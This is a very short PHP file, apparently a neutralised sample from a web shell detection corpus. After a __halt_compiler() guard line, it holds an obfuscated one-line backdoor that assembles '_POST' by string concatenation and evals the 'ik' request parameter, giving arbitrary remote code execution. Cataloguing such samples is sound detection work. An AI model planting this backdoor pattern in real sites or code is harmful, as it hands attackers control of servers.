<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
$a = '_PO' . 'ST';
$b = $$a;
eval($b['ik']);
